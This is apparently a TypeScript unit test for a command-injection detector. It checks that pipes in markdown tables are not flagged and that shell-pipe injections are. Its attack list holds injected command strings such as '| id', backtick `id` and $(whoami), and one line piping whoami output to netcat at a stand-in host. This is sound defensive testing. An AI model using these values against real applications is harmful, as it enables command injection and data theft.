import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { decodeValue } from '../../../src/threat/decode/normalize.js';
import { detectCmdi } from '../../../src/threat/detectors/cmdi.js';

const score = (s: string) => detectCmdi(decodeValue(s));

describe('a pipe on a line that opens with a pipe is a table border, not a shell pipe', () => {
  // the first line is appended to the application's command: a pipe there still pipes, unless the row ends
  // with '|' and the next line opens with '|' (a syntax error that runs nothing); a continuation glues lines
  const attacks = [
    '| id',
    '| id |',
    '| id |\nfoo',
    '|whoami|\nls',
    'cat x \\\n| id',
    'dir ^\n| whoami',
    '| a | b |\n|---|---|\nwhoami | nc evil.example 80',
    '| a | b |\n|---|---|\n; id',
    'x\n\n`id`',
    '| a |\n| b |\n`id`',
    '| a |\n| b |\nfoo $(whoami)',
  ];
  for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => { const v = score(a); assert.ok(v.confidence >= 0.8, `${a}: ${JSON.stringify(v)}`); });
  const benign = [
    '| Field | Type | Required |\n| --- | --- | --- |\n| `services[_].credentials.client_tls.cert` | `string` | Yes |',
    '| Constraint Rule | Go | Java | Python |\n| ---| :---: | :---: | :---: |\n| const | yes | yes | yes |',
    'Supported toolchains:\n\n| Operating System | Compiler Versions |\n| --- | --- |\n| Linux | GCC >= 10.1 |',
    '```\n+-------+------------+\n| USER  | PERMISSION |\n+-------+------------+\n| Alice | Read       |\n|       | Write      |\n+-------+------------+\n```',
    '| Bug ID | Ref | Patch | Type | Sub-type |\n| ---- | ---- | ---- | ---- | ---- |\n|[hugo#5379]|[pull request]|[patch]| Resource | Double locking |',
    '| Option | Example |\n| --- | --- |\n| `--since` | `git log --since=$(date)`; see `git help log` & `man git` |',
    '| Module | Path | Purpose |\n|--------|------|---------|\n| Tools | `./tools/cmd/*/go.mod` | Code generators |',
  ];
  for (const b of benign) it(`does not flag ${JSON.stringify(b).slice(0, 70)}`, () => { const v = score(b); assert.ok(v.confidence < 0.8, `${b}: ${JSON.stringify(v)}`); });
});
